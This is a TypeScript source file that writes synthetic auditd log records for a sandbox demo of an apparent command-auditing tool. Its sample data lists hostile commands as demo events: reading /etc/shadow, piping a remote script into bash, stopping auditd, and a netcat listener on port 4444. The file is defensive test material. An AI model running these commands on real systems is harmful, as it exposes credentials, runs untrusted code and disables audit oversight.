/**
 * Writes auditd records (ENRICHED format, as auditd writes by default) for the sandbox's demo
 * log, so the sandbox exercises the same parser and tailer as production.
 */
export interface DemoCommand {
  login: string;
  uid: number;
  /** The account it ran as (root for sudo). */
  runAs: string;
  runAsUid: number;
  argv: string[];
  cwd: string;
  host: string;
  /** The audit login session (`ses`); default 7, one session for everything. */
  session?: number;
}

const GS = '\u001d';

export function auditdRecords(command: DemoCommand, time: Date, serial: number, pid: number): string {
  const stamp = `${Math.floor(time.getTime() / 1000)}.${String(time.getTime() % 1000).padStart(3, '0')}:${serial}`;
  const head = (type: string) => `node=${command.host} type=${type} msg=audit(${stamp}):`;
  const exe = command.argv[0]?.startsWith('/') ? command.argv[0] : `/usr/bin/${command.argv[0] ?? 'sh'}`;
  const args = command.argv.map((arg, i) => `a${i}=${encodeValue(arg)}`).join(' ');
  return [
    `${head('SYSCALL')} arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=0 items=2 ppid=${pid - 1} pid=${pid} auid=${command.uid} uid=${command.runAsUid} gid=0 euid=${command.runAsUid} suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=${command.session ?? 7} comm=${encodeValue(basename(exe))} exe=${encodeValue(exe)} key="vouch"${GS}ARCH=x86_64 SYSCALL=execve AUID="${command.login}" UID="${command.runAs}" GID="root" EUID="${command.runAs}" SUID="root" FSUID="root" EGID="root" SGID="root" FSGID="root"`,
    `${head('EXECVE')} argc=${command.argv.length} ${args}`,
    `${head('CWD')} cwd=${encodeValue(command.cwd)}`,
    `${head('PATH')} item=0 name=${encodeValue(exe)} inode=1 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0${GS}OUID="root" OGID="root"`,
    `${head('EOE')}`,
  ].join('\n') + '\n';
}

/** auditd's rule: quoted when every byte is 0x21..0x7e and none is a double quote, hex otherwise. */
function encodeValue(value: string): string {
  const bytes = Buffer.from(value, 'utf8');
  const plain = bytes.length > 0 && bytes.every((byte) => byte >= 0x21 && byte <= 0x7e && byte !== 0x22);
  return plain ? `"${value}"` : bytes.toString('hex').toUpperCase();
}

function basename(file: string): string {
  return file.slice(file.lastIndexOf('/') + 1);
}

/** The demo's cast and the commands they "ran". */
export const DEMO_PEOPLE = [
  { login: 'alice', uid: 1000, name: 'Alice Smith', device: 'push' as const },
  { login: 'bob', uid: 1001, name: 'Bob Jones', device: 'push' as const },
  { login: 'carol', uid: 1002, name: 'Carol White', device: 'none' as const },
];

export const DEMO_COMMANDS: DemoCommand[] = [
  { login: 'alice', uid: 1000, runAs: 'root', runAsUid: 0, argv: ['cat', '/etc/shadow'], cwd: '/home/alice', host: 'db-1' },
  { login: 'bob', uid: 1001, runAs: 'root', runAsUid: 0, argv: ['sh', '-c', 'curl -fsSL https://get.example.sh | bash'], cwd: '/tmp', host: 'web-3' },
  { login: 'alice', uid: 1000, runAs: 'root', runAsUid: 0, argv: ['systemctl', 'stop', 'auditd'], cwd: '/root', host: 'db-1' },
  { login: 'carol', uid: 1002, runAs: 'root', runAsUid: 0, argv: ['tcpdump', '-i', 'eth0', '-w', '/tmp/cap.pcap'], cwd: '/home/carol', host: 'lb-2' },
  { login: 'mallory', uid: 1666, runAs: 'root', runAsUid: 0, argv: ['nc', '-lvnp', '4444'], cwd: '/tmp', host: 'web-3' },
];
